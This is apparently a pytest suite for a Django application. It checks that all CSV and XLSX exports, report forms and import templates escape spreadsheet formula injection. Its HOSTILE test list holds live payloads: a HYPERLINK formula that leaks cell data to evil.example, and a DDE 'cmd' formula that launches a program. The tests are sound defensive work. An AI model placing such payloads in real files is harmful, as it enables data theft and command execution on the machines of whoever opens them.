"""Every CSV and XLSX file the application writes, with hostile names and titles: no formula.

The list exports are found by walking the URL patterns (every page without arguments that
answers `?_export=csv`), so a list added later is covered; the annual forms and the import
templates by their registries. Each file is read back: a workbook with openpyxl (no cell of
type "f", no text beginning with a formula character), a CSV with the csv module.
"""

import csv
import io

import pytest
from django.db import transaction
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from audits.models import Option
from benxi_cp import guards, roles, safecells
from benxi_cp.importers import importer_kinds
from enterprises.models import Enterprise
from reports.annual import FORMS
from targets.models import Department, Indicator

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
YEAR = 2000


def _patterns(resolver, prefix=""):
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            namespace = f"{prefix}{entry.namespace}:" if entry.namespace else prefix
            yield from _patterns(entry, namespace)
        elif isinstance(entry, URLPattern) and entry.name:
            yield prefix + entry.name, entry


def list_pages() -> list[str]:
    """Every named page without arguments (its export, if it has one, is tried)."""
    names = []
    for name, pattern in _patterns(get_resolver()):
        if pattern.pattern.regex.groups or name.startswith("admin:"):
            continue
        names.append(name)
    return names


@pytest.fixture
def hostile_programme(db):
    """The hand-made programme of tests/reports, its names and titles made hostile."""
    from tests.reports.scenario import build

    programme = build()
    for index, enterprise in enumerate(Enterprise.objects.order_by("pk")):
        Enterprise.objects.filter(pk=enterprise.pk).update(
            name=HOSTILE[index % len(HOSTILE)],
            name_en=HOSTILE[(index + 1) % len(HOSTILE)],
            address=HOSTILE[(index + 2) % len(HOSTILE)],
            contact_person="@evil",
        )
    # Below the lock of accepted audits, as a loader of generated data writes.
    with transaction.atomic(), guards.suspended():
        for index, option in enumerate(Option.objects.order_by("pk")):
            Option.objects.filter(pk=option.pk).update(title=HOSTILE[index % len(HOSTILE)])
    Department.objects.update(name=HOSTILE[1], name_en=HOSTILE[0])
    Indicator.objects.update(name=HOSTILE[0], name_en=HOSTILE[1])
    return programme


def assert_safe_csv(content: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                assert safecells._is_number(cell), f"unsafe CSV cell {cell!r}"
    return rows


def assert_safe_xlsx(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not cell.value.startswith(TRIGGERS) or safecells._is_number(
                        cell.value
                    ), f"unsafe XLSX cell {cell.coordinate}: {cell.value!r}"
                    texts.append(cell.value)
    return texts


def _download(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, url
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_every_list_export_is_neutralised(hostile_programme, client_as, settings):
    client = client_as(roles.ADMINISTRATOR)
    exported = []
    seen_hostile = False
    for name in list_pages():
        url = reverse(name)
        response = client.get(url, {"_export": "csv"})
        if response.status_code != 200 or not response.get("Content-Type", "").startswith(
            "text/csv"
        ):
            continue
        exported.append(name)
        content = b"".join(response.streaming_content) if response.streaming else response.content
        rows = assert_safe_csv(content)
        seen_hostile |= any("'=HYPERLINK" in cell for row in rows for cell in row)
        texts = assert_safe_xlsx(_download(client, f"{url}?_export=xlsx"))
        seen_hostile |= any(text.startswith("'=cmd|") for text in texts)
    # The walk found the lists every role works with (so the check above ran on them).
    assert {
        "enterprises:list",
        "enterprises:report_list",
        "enterprises:flagged_values",
        "audits:list",
        "audits:option_list",
        "targets:overview",
        "targets:indicators",
        "reports:enterprises",
    } <= set(exported), exported
    assert seen_hostile


@pytest.mark.parametrize("name", sorted(FORMS))
def test_every_annual_form_is_neutralised(hostile_programme, client_as, name):
    client = client_as(roles.ADMINISTRATOR)
    csv_rows = assert_safe_csv(
        _download(client, reverse("reports:form_download", args=[name, "csv"]) + f"?year={YEAR}")
    )
    texts = assert_safe_xlsx(
        _download(client, reverse("reports:form_download", args=[name, "xlsx"]) + f"?year={YEAR}")
    )
    assert csv_rows and texts
    if name in ("audits", "discharge", "targets"):  # the others are totals, without names
        hostile = [t for t in texts if any(h.strip()[:5] in t for h in HOSTILE)]
        assert hostile, f"the {name} form shows no hostile name: the test would prove nothing"


@pytest.mark.parametrize("kind", importer_kinds())
def test_every_import_template_is_safe(client_as, kind):
    client = client_as(roles.ADMINISTRATOR)
    header = assert_safe_csv(_download(client, reverse("import_template", args=[kind, "csv"])))
    assert header[0]
    assert assert_safe_xlsx(_download(client, reverse("import_template", args=[kind, "xlsx"])))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1,234.50", "-1,234.50"),
        ("甲钢铁厂", "甲钢铁厂"),
        ("", ""),
    ],
)
def test_text_neutralised(value, expected):
    assert safecells.text(value) == expected


def test_numbers_stay_numbers():
    from openpyxl import Workbook

    sheet = Workbook().active
    for column, value in enumerate([-5, 2.5, "=A1", "#N/A", "ok\x01"], start=1):
        safecells.set_text(sheet.cell(row=1, column=column), value)
    cells = [sheet.cell(row=1, column=c) for c in range(1, 6)]
    assert [c.data_type for c in cells] == ["n", "n", "s", "s", "s"]
    assert [c.value for c in cells] == [-5, 2.5, "'=A1", "#N/A", "ok"]
    assert safecells.csv_value(-5) == -5
